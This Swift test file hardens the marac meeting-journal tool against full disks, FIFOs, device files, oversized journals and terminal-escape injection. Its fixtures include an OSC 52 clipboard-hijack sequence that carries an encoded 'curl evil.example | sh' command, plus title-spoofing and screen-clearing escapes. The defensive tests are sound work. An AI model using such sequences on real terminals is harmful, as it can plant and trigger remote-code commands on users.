import MaracTestSupport
import Crypto
import Foundation
import MaracJournal
import Testing

/// Issue 21: a full disk under the log, crafted files that try to drive the terminal through
/// error messages, FIFOs and devices in a journal's place.
@Suite("Hardening")
struct HardeningTests {
    /// Runs `marac ARGS`, failing the test (and ending the process) if it has not finished by the
    /// deadline: the point of some of these tests is that marac no longer waits forever.
    static func maracWithin(_ seconds: Double, _ args: [String], folder: String,
                            environment: [String: String] = [:]) throws -> MaracRun {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: Binary.marac)
        p.arguments = args
        var env = ProcessInfo.processInfo.environment
        env.removeValue(forKey: "MARAC_PASSPHRASE")
        env["MARAC_DATA_DIR"] = folder
        env["HOME"] = folder
        env["TMPDIR"] = folder
        env["LC_ALL"] = "C.UTF-8"
        env.merge(environment) { $1 }
        p.environment = env
        // Files, not pipes: nothing is lost if the process must be ended.
        let outPath = folder + "/.out-\(UUID().uuidString)", errPath = folder + "/.err-\(UUID().uuidString)"
        FileManager.default.createFile(atPath: outPath, contents: nil)
        FileManager.default.createFile(atPath: errPath, contents: nil)
        let out = try FileHandle(forWritingTo: URL(fileURLWithPath: outPath))
        let err = try FileHandle(forWritingTo: URL(fileURLWithPath: errPath))
        p.standardOutput = out
        p.standardError = err
        p.standardInput = FileHandle.nullDevice
        try p.run()
        let deadline = Date().addingTimeInterval(seconds)
        while p.isRunning && Date() < deadline { usleep(20_000) }
        let finished = !p.isRunning
        if !finished { kill(p.processIdentifier, SIGKILL) }
        p.waitUntilExit()
        try? out.close(); try? err.close()
        defer { unlink(outPath); unlink(errPath) }
        let result = MaracRun(status: p.terminationStatus, stdout: bytes(outPath), stderr: bytes(errPath))
        if !finished { throw E2EFailure("marac \(args.joined(separator: " ")) was still running after \(seconds) s: \(result.stderr)") }
        return result
    }

    static func newMeeting(in dir: TempFolder) throws -> String {
        try write(Secret.agenda, to: dir.file("agenda.csv"))
        let journal = dir.file("meeting.jsonl")
        try marac(["new", "--agenda", dir.file("agenda.csv"), "--date", "01/12/2026", "--area", "Northvale",
                   "--chair", "Alex Chair", "--out", journal], folder: dir.path)
        return journal
    }

    // MARK: - The log never fails the meeting

    @Test("a log on a full disk (/dev/full) loses log lines, never the meeting")
    func fullDiskLog() throws {
        let dir = try TempFolder()
        let journal = try Self.newMeeting(in: dir)
        #expect(symlink("/dev/full", dir.file("marac.log")) == 0)
        try write(Secret.keys + "5", to: dir.file("steps.keys"))
        let run = try Self.maracWithin(120, ["run", journal, "--keys", dir.file("steps.keys"), "--dump-screen", dir.file("end.txt"),
                                             "--data-dir", dir.path], folder: dir.path)
        #expect(run.status == 0, "\(run.stderr)")
        #expect(!run.stderr.contains("Fatal error"), "\(run.stderr)")
        let screen = bytes(dir.file("end.txt"))
        #expect(screen.contains("could not be written"), "the summary counts the lost log lines:\n\(screen)")
        let contents = try JournalReader.read(path: journal)
        #expect(contents.events.contains { if case .actionAgreed = $0.event { return true } else { return false } })
        // The symlink is still a symlink to the device: marac never replaced it.
        #expect((try? FileManager.default.destinationOfSymbolicLink(atPath: dir.file("marac.log"))) == "/dev/full")
    }

    @Test("marac runs with the backtracer's interactive prompt off, so a crash never waits for a key")
    func backtracerNeverWaits() throws {
        guard TmuxSession.isAvailable else { return }
        let dir = try TempFolder()
        let tmux = try TmuxSession(command: "env -u SWIFT_BACKTRACE \(Binary.marac) demo",
                                   environment: ["TMPDIR": dir.path, "MARAC_DATA_DIR": dir.path, "HOME": dir.path])
        try tmux.waitFor(text: "Press Enter to start the meeting")
        let pid = try #require(processID(commandLineContaining: "demo"))
        let environ = FileManager.default.contents(atPath: "/proc/\(pid)/environ") ?? Data()
        let vars = environ.split(separator: 0).map { String(decoding: $0, as: UTF8.self) }
        let setting = try #require(vars.first { $0.hasPrefix("SWIFT_BACKTRACE=") }, "marac set no SWIFT_BACKTRACE for itself")
        #expect(setting.contains("interactive=no"))
    }

    // MARK: - Every message is safe text

    /// Bytes a terminal would act on: ESC, BEL, the C1 controls (8-bit CSI, OSC, ST).
    static func drivesTerminal(_ text: String) -> Bool {
        text.unicodeScalars.contains { v in v.value == 0x1B || v.value == 0x07 || (0x80...0x9F).contains(v.value) }
    }

    /// The SHA-256 chain tail for a hand-made line body (everything before `,"prev"`).
    static func seal(_ body: String, prev: String) -> (line: String, hash: String) {
        let withPrev = body + #","prev":"\#(prev)""#
        let hash = SHA256.hash(data: Data(withPrev.utf8)).map { String(format: "%02x", $0) }.joined()
        return (withPrev + #","h":"\#(hash)"}"# + "\n", hash)
    }

    static let clipboard = "\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}"
    static let title = "\u{1B}]0;PWNED\u{07}"
    static let clear = "\u{1B}[2J\u{1B}[H"

    /// A real journal with one more, correctly chained line whose note kind is an escape sequence:
    /// the decoder's error quotes the value.
    static func craftedJournal(in dir: TempFolder) throws -> String {
        let journal = try newMeeting(in: dir)
        let contents = try JournalReader.read(path: journal)
        let hostile = (clipboard + title + clear).unicodeScalars.map { $0.value < 0x20 ? String(format: "\\u%04x", $0.value) : String($0) }.joined()
        let body = #"{"seq":\#(contents.events.count + 1),"t":1796112000000,"event":{"noteAdded":{"agency":"Police","caseRef":"SX-0001","kind":"\#(hostile)","text":"x"}}"#
        let sealed = seal(body, prev: contents.finalHash)
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: journal))
        try handle.seekToEnd()
        try handle.write(contentsOf: Data(sealed.line.utf8))
        try handle.close()
        return journal
    }

    @Test("a crafted journal's values reach the terminal only as plain text: verify, run, export, replay")
    func craftedJournalMessages() throws {
        let dir = try TempFolder()
        let journal = try Self.craftedJournal(in: dir)
        try write("5", to: dir.file("k.keys"))
        let runs: [(String, [String])] = [
            ("verify", ["verify", journal]),
            ("run", ["run", journal, "--keys", dir.file("k.keys"), "--dump-screen", dir.file("run.txt"), "--data-dir", dir.path]),
            ("export", ["export", journal, "--format", "md", "--out", dir.file("out")]),
            ("replay", ["replay", journal, "--keys", dir.file("k.keys"), "--dump-screen", dir.file("replay.txt"), "--data-dir", dir.path]),
        ]
        for (name, args) in runs {
            let r = try Self.maracWithin(60, args, folder: dir.path)
            #expect(!Self.drivesTerminal(r.stdout), "\(name) stdout: \(r.stdout.debugDescription)")
            #expect(!Self.drivesTerminal(r.stderr), "\(name) stderr: \(r.stderr.debugDescription)")
            // The sequences' own text (the clipboard's payload, the title) is dropped with them.
            #expect(!r.stderr.contains("PWNED") && !r.stdout.contains("PWNED"), "\(name): \(r.stderr)")
        }
        // The damage is still reported, by line.
        let verify = try Self.maracWithin(60, ["verify", journal], folder: dir.path)
        #expect(verify.status == 2)
        #expect(verify.stderr.contains("line \(try JournalReader.read(path: journal).lineCount + 1) is damaged"), "\(verify.stderr)")
    }

    @Test("a protocol file with escape sequences in it cannot drive the terminal through `marac new`")
    func craftedProtocol() throws {
        let dir = try TempFolder()
        try write(Secret.agenda, to: dir.file("agenda.csv"))
        try write("\"\(Self.clipboard)\(Self.title)\": 3\ntarget_minutes: \"\(Self.clear)\"\n".replacingOccurrences(of: "\u{1B}", with: "\\e").replacingOccurrences(of: "\u{07}", with: "\\a"),
                  to: dir.file("local.yaml"))
        let r = try Self.maracWithin(60, ["new", "--agenda", dir.file("agenda.csv"), "--date", "01/12/2026", "--area", "Northvale",
                                          "--chair", "Alex Chair", "--protocol", dir.file("local.yaml"), "--out", dir.file("m.jsonl")], folder: dir.path)
        #expect(r.status != 0)
        #expect(r.stderr.contains("local.yaml"), "\(r.stderr)")
        #expect(!Self.drivesTerminal(r.stderr), "\(r.stderr.debugDescription)")
        #expect(!Self.drivesTerminal(r.stdout), "\(r.stdout.debugDescription)")
    }

    // MARK: - Only regular files

    @Test("a FIFO in a journal's place is refused at once by verify, run, export and report")
    func fifoJournal() throws {
        let dir = try TempFolder()
        let fifo = dir.file("stuck.jsonl")
        #expect(mkfifo(fifo, 0o600) == 0)
        try write("5", to: dir.file("k.keys"))
        for args in [["verify", fifo], ["run", fifo, "--keys", dir.file("k.keys"), "--data-dir", dir.path],
                     ["export", fifo, "--format", "md", "--out", dir.file("out")], ["report", dir.path, "--quarter", "2026Q4"], ["actions", "list", dir.path]] {
            let r = try Self.maracWithin(30, args, folder: dir.path)
            // verify, run and export refuse it; the folder commands name it and skip it.
            if args[0] != "report" && args[0] != "actions" { #expect(r.status != 0, "\(args[0])") }
            #expect(r.stderr.contains("stuck.jsonl") && r.stderr.contains("not an ordinary file"), "\(args[0]): \(r.stderr)")
        }
        // Still a FIFO: never replaced.
        var info = stat()
        #expect(lstat(fifo, &info) == 0 && (info.st_mode & S_IFMT) == S_IFIFO)
    }

    @Test("/dev/zero as a journal is refused, not read until memory runs out")
    func deviceJournal() throws {
        let dir = try TempFolder()
        let zero = dir.file("zero.jsonl")
        #expect(symlink("/dev/zero", zero) == 0)
        let r = try Self.maracWithin(30, ["verify", zero], folder: dir.path)
        #expect(r.status == 2)
        #expect(r.stderr.contains("zero.jsonl") && r.stderr.contains("not an ordinary file"), "\(r.stderr)")
        #expect(!r.stderr.contains("Fatal error"))
    }

    @Test("a journal larger than any marac writes is refused by its size, without reading it")
    func hugeJournal() throws {
        let dir = try TempFolder()
        let huge = dir.file("huge.jsonl")
        FileManager.default.createFile(atPath: huge, contents: Data("{\"seq\":0".utf8))
        #expect(truncate(huge, off_t(FileLimits.journal + 1)) == 0)   // sparse: costs no disk
        let r = try Self.maracWithin(30, ["verify", huge], folder: dir.path)
        #expect(r.status == 2)
        #expect(r.stderr.contains("huge.jsonl") && r.stderr.contains("larger than any file marac reads"), "\(r.stderr)")
    }

    @Test("an agenda that is a FIFO is refused at once, naming the file")
    func fifoAgenda() throws {
        let dir = try TempFolder()
        let fifo = dir.file("agenda.csv")
        #expect(mkfifo(fifo, 0o600) == 0)
        let r = try Self.maracWithin(30, ["new", "--agenda", fifo, "--date", "01/12/2026", "--area", "Northvale",
                                          "--chair", "Alex Chair", "--out", dir.file("m.jsonl")], folder: dir.path)
        #expect(r.status != 0)
        #expect(r.stderr.contains("agenda.csv") && r.stderr.contains("not an ordinary file"), "\(r.stderr)")
        #expect(!FileManager.default.fileExists(atPath: dir.file("m.jsonl")))
    }
}
